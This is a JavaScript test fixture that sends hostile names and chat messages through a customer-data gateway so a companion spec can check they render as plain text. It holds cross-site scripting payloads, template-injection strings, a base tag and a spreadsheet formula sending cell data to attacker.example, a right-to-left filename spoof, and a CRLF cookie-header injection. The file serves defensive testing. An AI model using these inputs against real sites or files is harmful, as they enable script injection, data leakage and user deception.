// What attackers write into names and messages, in the hope that a page runs it. It comes in through the gateway, as
// customers' data does, and is looked at by hostile.spec.mjs.

// Each calls hostile(), or loads /hostile, if anything of it is taken for more than text.
export const texts = {
  script: `<script>hostile()</script>`,
  closing: `"'></script></style></title></textarea><script>hostile()</script>`,
  image: `<img src=x onerror=hostile()>`,
  svg: `<svg/onload=hostile()><animate onbegin=hostile() attributeName=x>`,
  math: `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=hostile()>">`,
  frame: `<iframe srcdoc="<script>parent.hostile()</script>"></iframe>`,
  link: `<a href="javascript:hostile()">here</a>`,
  address: `javascript:hostile()//https://example.com/`,
  data: `data:text/html,<script>opener.hostile()</script>`,
  attribute: `" autofocus onfocus=hostile() x="`,
  style: `<style>@import url(/hostile)</style><div style="background:url(/hostile)">`,
  base: `<base href="https://attacker.example/"><meta http-equiv=refresh content="0;url=/hostile">`,
  form: `<form action=/hostile><button autofocus formaction=javascript:hostile()>`,
  template: "{{constructor.constructor('hostile()')()}} ${hostile()} <%= hostile() %> #{hostile()} [[hostile()]]",
  chart: `{b|<img src=x onerror=hostile()>} {@[0]} {value}`,
  prototype: `__proto__`,
  markdown: `[here](javascript:hostile()) ![x](/hostile) <details open ontoggle=hostile()>`,
  formula: `=HYPERLINK("https://attacker.example/?"&A1,"here")`,
  overridden: `\u202Eecila\u202C \u2066\u2067invoice\u2069.exe`,
  zero: `a\u200Bb\u200Dc\uFEFFd\u00ADe`,
  controls: `bell\u0007 escape\u001B[31m null\\u0000 %00 %0d%0aSet-Cookie: a=b`,
  combining: "Z" + "\u0351\u036B\u0343\u036A\u0302\u036B".repeat(40),
  emoji: "👩🏽‍💻🏴‍☠️🇺🇳👨‍👩‍👧‍👦".repeat(8),
  wide: "長い名前".repeat(60),
  unbroken: "x".repeat(1000),
  lone: "\uD800 half of a pair \uDC00",
  encoded: `&lt;img src=x onerror=hostile()&gt; &#x3C;script&#x3E;hostile()`,
}

/** customer is by what the one with a text is known. */
export const customer = (name) => `hostile-${name}`

/** long is as long as an event may be: 32 KB. */
const long = `<b onclick=hostile()>${"long ".repeat(6_300)}`

/** plant sends them all, and returns once they can be read. */
export async function plant(url, adminKey) {
  const call = async (path, key, body, basic) => {
    const answer = await fetch(url + path, {
      method: body === undefined ? "GET" : "POST", body: body === undefined ? undefined : JSON.stringify(body),
      headers: { "Content-Type": "application/json", Authorization: basic ? `Basic ${btoa(key + ":")}` : `Bearer ${key}` },
    })
    const text = await answer.text()
    if (!answer.ok) throw new Error(`${path} is answered with ${answer.status}: ${text}`)
    return JSON.parse(text)
  }
  const { secret } = await call("/v1/keys", adminKey, { kind: "write", source: "hostile" })
  for (const [name, text] of Object.entries(texts)) await call("/v1/batch", secret, { batch: [...events(name, text)] }, true)
  await call("/v1/track", secret, message("long", "hostile-long-c", { text: long }), true)
  for (const name of Object.keys(texts)) await readable(call, adminKey, name)
}

async function readable(call, key, name) {
  for (let wait = 10; ; wait *= 2) {
    try {
      return await call(`/v1/profiles/user_id:${customer(name)}`, key)
    } catch (fault) {
      if (wait > 20_000) throw fault
    }
    await new Promise((done) => setTimeout(done, wait))
  }
}

const message = (name, conversation, properties) => ({
  type: "track", userId: customer(name), event: "conversation.message", context: { channel: "chat" },
  properties: { conversation_id: conversation, author_role: "customer", direction: "inbound", ...properties },
})

/** events are those of a customer whose every word is a text. */
function* events(name, text) {
  const userId = customer(name)
  const conversation = `${userId}-c`
  yield { type: "identify", userId, traits: { firstName: text, lastName: text, company: text, plan: text, [text.slice(0, 60)]: text } }
  yield { type: "group", userId, groupId: `${userId}-account`, traits: { name: text } }
  yield { type: "track", userId, event: text.slice(0, 200), properties: { product: text, page: text } }
  yield { ...message(name, conversation, { topic: text.slice(0, 200) }), event: "conversation.started" }
  yield message(name, conversation, { text })
  yield { ...message(name, conversation, { topic: text.slice(0, 200), disposition: text.slice(0, 200), resolution: "confirmed", author_role: "human", agent_id: text.slice(0, 60) }), event: "conversation.ended" }
}
